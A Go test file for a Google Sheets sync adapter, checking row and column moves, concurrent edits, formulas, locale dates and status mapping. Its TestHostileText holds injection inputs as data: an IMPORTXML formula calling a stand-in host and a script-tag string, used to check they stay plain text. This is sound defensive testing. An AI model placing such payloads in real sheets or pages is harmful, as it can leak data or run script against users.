package gsheets

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lockstep-sync/lockstep/sync/fault"
	"github.com/lockstep-sync/lockstep/sync/task"
)

func TestRowsAndColumnsMayMove(t *testing.T) {
	t.Parallel()
	b := open(t, columns("title", "Action", "status", "Status", "due", "Deadline"),
		"Action|Status|Deadline|Notes of ours", "Pump|Done|12/03/2026|a", "Pipe|Blocked|13/03/2026|b", "Tank|||c", "Tank|||d")
	before := byKey(b.pull())
	move := func(what string, err error) {
		t.Helper()
		b.must(err)
		after := byKey(b.pull())
		if len(after) != len(before) {
			t.Fatalf("%s: %d rows; want %d", what, len(after), len(before))
		}
		for k, v := range before {
			if after[k] != v {
				t.Errorf("%s: row %s holds %v; want %v", what, k, after[k], v)
			}
		}
	}
	step := func() {
		move("a row moved", b.srv.MoveRow(b.id, tab, 2, 4))
		move("sorted", b.srv.SortRows(b.id, tab, 2, 5, 1))
		move("a column moved", b.srv.MoveColumn(b.id, tab, 1, 3))
		move("a column put in", b.srv.InsertColumn(b.id, tab, 2))
		move("a row put in", b.srv.InsertRow(b.id, tab, 3))
	}
	step()
	before = byKey(b.adopt())
	if _, ok := before["CW-4"]; !ok || len(before) != 4 {
		t.Fatalf("after adopting all, the keys are %v", before)
	}
	b.must(b.srv.MoveColumn(b.id, tab, 3, 1)) // so that it can be moved again
	step()
}

func byKey(s task.Snapshot) map[string]task.Values {
	m := make(map[string]task.Values)
	for _, r := range s.Records {
		m[r.Ref.Key] = r.Values
	}
	return m
}

func TestEditedMeanwhile(t *testing.T) {
	t.Parallel()
	b := open(t, columns("title", "Action", "status", "Status"), "Action|Status", "Pump|Open", "Pipe|Open", "Tank|Open")
	snap := b.adopt()
	done := task.EnumValue(task.Done)
	var patches []task.Patch
	for _, r := range snap.Records {
		patches = append(patches, setting(r, task.Status, done))
	}
	b.typed("B2", "Blocked")                   // a person is quicker
	b.must(b.srv.SortRows(b.id, tab, 2, 4, 1)) // and sorts: Pipe, Pump, Tank
	b.must(b.srv.InsertRow(b.id, tab, 2))      // and puts a row in
	b.must(b.srv.MoveColumn(b.id, tab, 2, 1))  // and moves the status to the front
	rs := b.c.Apply(t.Context(), patches)
	b.faulty(rs[0].Err, fault.Conflict, fault.Precondition)
	if rs[1].Err != nil || rs[2].Err != nil || rs[1].Record == nil || rs[1].Record.Values[task.Status] != done {
		t.Errorf("the other rows: %+v", rs[1:])
	}
	b.is("A2", nil)
	b.is("A3", "Done")
	b.is("A4", "Blocked")
	b.is("A5", "Done")
	b.is("B4", "Pump")

	// A row that is gone, and one whose copy cannot be told from it.
	snap = b.pull()
	b.must(b.srv.DeleteRow(b.id, tab, 3))
	rs = b.c.Apply(t.Context(), []task.Patch{setting(b.titled(snap, "Pipe"), task.Title, task.TextValue("Hose"))})
	b.faulty(rs[0].Err, fault.Conflict, fault.Precondition)
	b.typed("C4", "CW-1")
	rs = b.c.Apply(t.Context(), []task.Patch{setting(b.titled(snap, "Pump"), task.Title, task.TextValue("Pumps"))})
	b.faulty(rs[0].Err, fault.Conflict, fault.Precondition, "copy")
	b.is("B3", "Pump")
}

func TestAdoptWhatWasSeen(t *testing.T) {
	t.Parallel()
	b := open(t, columns("title", "Action", "status", "Status"), "Action|Status", "Pump|Open", "Pump|Open", "Pipe|Open")
	snap := b.pull()
	if a, c := snap.Records[0].Ref.Key, snap.Records[1].Ref.Key; a == c || !snap.Records[0].Ref.Provisional() {
		t.Fatalf("two equal rows have the keys %q and %q", a, c)
	}
	b.typed("B4", "Done")
	var patches []task.Patch
	for i, r := range snap.Records {
		patches = append(patches, task.Patch{Op: task.Adopt, Task: cw(i + 1), Ref: r.Ref, Expect: r.Values})
	}
	rs := b.c.Apply(t.Context(), patches)
	if rs[0].Err != nil || rs[1].Err != nil || rs[1].Record.Ref.Key != "CW-2" {
		t.Errorf("equal rows: %+v", rs[:2])
	}
	b.faulty(rs[2].Err, fault.Conflict, fault.Precondition)
	b.is("C1", idHeader)
	b.is("C2", "CW-1")
	b.is("C3", "CW-2")
	b.is("C4", nil)
	// The same again: what landed is true already.
	rs = b.c.Apply(t.Context(), patches[:2])
	if rs[0].Err != nil || rs[0].Record.Marker != "CW-1" {
		t.Errorf("adopted twice: %+v", rs[0])
	}
	if _, writes := b.asked(); writes != 1 {
		t.Errorf("%d writes; want the one", writes)
	}
}

func TestFormulasStay(t *testing.T) {
	t.Parallel()
	b := open(t, columns("title", "Action", "due", "Deadline", "progress", "%"),
		"Action|Deadline|%|Days", "Pump|12/03/2026|50%|3", "Pipe|=DATE(2026,3,9)+D3|=D3/10|5")
	r := b.adopt().Records[1]
	if r.Problems[task.Progress].Reason != task.HoldUnsupported || r.Values[task.Progress].String() != "0.5" {
		t.Errorf("the formula reads %v, %v", r.Values[task.Progress], r.Problems[task.Progress])
	}
	n, err := task.NumberValue(1)
	b.must(err)
	p := setting(r, task.Progress, n)
	p.Set = append([]task.Change{{Field: task.Title, From: r.Values[task.Title], To: task.TextValue("Hose")}}, p.Set...)
	rs := b.c.Apply(t.Context(), []task.Patch{p})
	b.faulty(rs[0].Err, fault.Permanent, fault.Unsupported, "formula")
	b.is("A3", "Pipe")
	b.is("C3", 0.5)
	b.typed("D3", "7")
	b.is("C3", 0.7)
}

func TestHostileText(t *testing.T) {
	t.Parallel()
	texts := []string{
		`=IMPORTXML("http://evil.example","//x")`, "+1", "-", "@x", "'x", "''", "=", "12/03/2026", "TRUE", "1e9", "007", "50%", "#REF!",
		"<script>alert(1)</script>", "a\tb\nc", "~", strings.Repeat("=A1+", 1000),
	}
	b := open(t, columns("title", "Action", "notes", "Notes", "labels", "Tags", "assignee", "Who"), "Action|Notes|Tags|Who")
	var patches []task.Patch
	for i, s := range texts {
		var v task.Values
		v[task.Title], v[task.Notes] = task.TextValue("row "+s), task.TextValue(s)
		v[task.Labels], v[task.Assignee] = task.SetValue(strings.ReplaceAll(strings.ReplaceAll(s, ",", ""), "\n", "")), task.PersonValue(s)
		patches = append(patches, creating(cw(i+1), v))
	}
	b.landed(patches...)
	snap := b.pull()
	if len(snap.Records) != len(texts) {
		t.Fatalf("%d rows; want %d", len(snap.Records), len(texts))
	}
	for i, s := range texts {
		r := snap.Records[i]
		for _, ch := range patches[i].Set {
			if want, _ := b.c.Normalize(ch.Field, ch.To, task.Value{}); r.Values[ch.Field] != want {
				t.Errorf("%q: %s reads %q; want %q", s, ch.Field, r.Values[ch.Field], want)
			}
		}
		if _, formula := r.Problems[task.Notes]; formula || r.Values[task.Notes] != task.TextValue(s) {
			t.Errorf("%q reads %q, %v", s, r.Values[task.Notes], r.Problems)
		}
	}
}

func TestDatesEverywhere(t *testing.T) {
	t.Parallel()
	days := []task.Value{date(2026, 3, 12), date(2026, 3, 29), date(2024, 2, 29), date(1906, 1, 8), date(2199, 12, 31), date(2026, 12, 11)}
	for _, place := range []struct{ locale, zone string }{
		{"en_GB", "Etc/UTC"},
		{"en_US", "America/Los_Angeles"},
		{"fr_FR", "Africa/Kinshasa"},
		{"de_DE", "Pacific/Kiritimati"},
		{"ja_JP", "Asia/Tokyo"},
		{"", "Pacific/Pago_Pago"},
	} {
		t.Run(place.locale, func(t *testing.T) {
			t.Parallel()
			b := open(t, columns("title", "Action", "due", "Deadline"), "Action|Deadline")
			if place.locale != "" {
				b.must(b.srv.SetProperties(b.id, place.locale, place.zone))
			}
			var patches []task.Patch
			for i, d := range days {
				var v task.Values
				v[task.Title], v[task.Due] = task.TextValue("Item"), d
				patches = append(patches, creating(cw(i+1), v))
			}
			for i, r := range b.landed(patches...) {
				if r.Record == nil || r.Record.Values[task.Due] != days[i] {
					t.Fatalf("%s: read back as %+v", days[i], r.Record)
				}
			}
			// A person's day with a time of day, and our writing over it: their format stays.
			b.must(b.srv.PutDate(b.id, tab, "B2", time.Date(2026, 5, 6, 23, 59, 0, 0, time.UTC)))
			r := b.pull().Records[0]
			if r.Values[task.Due] != date(2026, 5, 6) {
				t.Errorf("late in the day: %s", r.Values[task.Due])
			}
			b.landed(setting(r, task.Due, date(2026, 5, 7)))
			b.is("B2", float64(46149))
		})
	}
}

func TestStatusInTheColumnsOwnWords(t *testing.T) {
	t.Parallel()
	cfg := columns("title", "Action", "status", "ETAT", "partner", "Chez")
	cfg.Status = map[string][]string{task.Blocked: {"Coincé"}, task.Cancelled: {"Fini"}}
	b := open(t, cfg, "Action|ETAT\n(choisir dans la liste)|Chez", "Pump|En cours|aquafund", "Pipe|à faire|City of Riverton", "Tank|EN COURS|Aqua Fund", "Well|En cours|",
		"Weir|Fini|Nobody", "Wall|Kwaheri|")
	snap := b.adopt()
	for title, want := range map[string]string{"Pump": task.InProgress, "Pipe": task.NotStarted, "Weir": task.Cancelled} {
		if got := b.titled(snap, title).Values[task.Status]; got != task.EnumValue(want) {
			t.Errorf("%s reads %v; want %s", title, got, want)
		}
	}
	wall := b.titled(snap, "Wall")
	if why := wall.Problems[task.Status]; !wall.Values[task.Status].IsUnreadable() || why.Reason != task.HoldUnmappedStatus ||
		!strings.Contains(why.Hint, `["Kwaheri"]`) {
		t.Errorf("an unknown status: %v, %+v", wall.Values[task.Status], why)
	}
	weir := b.titled(snap, "Weir")
	if why := weir.Problems[task.Partner]; why.Reason != task.HoldUnknownPartner || !strings.Contains(why.Hint, "City of Riverton") {
		t.Errorf("an unknown partner: %+v", why)
	}
	b.landed(
		setting(b.titled(snap, "Pipe"), task.Status, task.EnumValue(task.InProgress)),
		setting(b.titled(snap, "Well"), task.Status, task.EnumValue(task.Blocked)),
		setting(b.titled(snap, "Tank"), task.Status, task.EnumValue(task.Done)),
		setting(b.titled(snap, "Pump"), task.Partner, task.EnumValue("riverton")),
	)
	b.is("B3", "En cours") // as most of the column has it
	b.is("B5", "Coincé")   // the configuration's word
	b.is("B4", "Done")     // ours
	b.is("C2", "City of Riverton")
	if rs := b.c.Apply(t.Context(), []task.Patch{setting(wall, task.Status, task.EnumValue(task.Done))}); rs[0].Err != nil {
		t.Logf("over what cannot be read: %v", rs[0].Err)
	} else {
		t.Error("what cannot be read was written over")
	}
	b.is("B7", "Kwaheri")
	if v, p := b.c.Normalize(task.Partner, task.EnumValue("hydrotech"), task.EnumValue("aquafund")); v != task.EnumValue("aquafund") || p == nil {
		t.Errorf("a partner that is not configured: %v, %v", v, p)
	}
}

func TestRealRows(t *testing.T) {
	t.Parallel()
	f := realData(t, "sheets/3w-activities-fr.jsonl")
	b := open(t, columns("title", "NOM ACTIVITE / PROJET2",
		"status", "ETAT PROJET", "start", "DATE DEBUT", "due", "DATE FIN",
		"notes", "COMMENTAIRE"))
	b.must(b.srv.SetProperties(b.id, "fr_FR", "Africa/Kinshasa"))
	n, err := b.srv.LoadRows(b.id, tab, f)
	b.must(err)
	snap := b.pull()
	if len(snap.Records) != 499 || len(snap.Held) != 0 || !snap.Complete {
		t.Fatalf("of %d rows %d are records and %v held", n, len(snap.Records), snap.Held)
	}
	keys := make(map[string]bool)
	for _, r := range snap.Records {
		keys[r.Ref.Key] = true
		if r.Values[task.Status] != task.EnumValue(task.InProgress) || r.Values[task.Title].IsEmpty() || len(r.Problems) != 0 {
			t.Errorf("%s reads %v, %v", r.Name, r.Values, r.Problems)
		}
		if _, ok := r.Values[task.Due].Time(); !ok {
			t.Errorf("%s is due %v", r.Name, r.Values[task.Due])
		}
	}
	if len(keys) != 499 {
		t.Errorf("%d keys of 499 rows", len(keys))
	}
	b.asked()
	after := b.adopt()
	if reads, writes := b.asked(); reads != 3 || writes != 1 {
		t.Errorf("adopting all took %d reads and %d writes, both pulls included; want 3 and 1", reads, writes)
	}
	for i, r := range after.Records {
		if r.Marker != cw(i+1) || r.Values != snap.Records[i].Values {
			t.Fatalf("row %d is %s and reads %v; want %v", i+1, r.Marker, r.Values, snap.Records[i].Values)
		}
	}
	if !slices.Contains(keysOf(b.srv.Rows(b.id, tab)[0]), idHeader) {
		t.Error("there is no id column")
	}
}

func keysOf(row []any) []string {
	var out []string
	for _, v := range row {
		if s, ok := v.(string); ok {
			out = append(out, s)
		}
	}
	return out
}
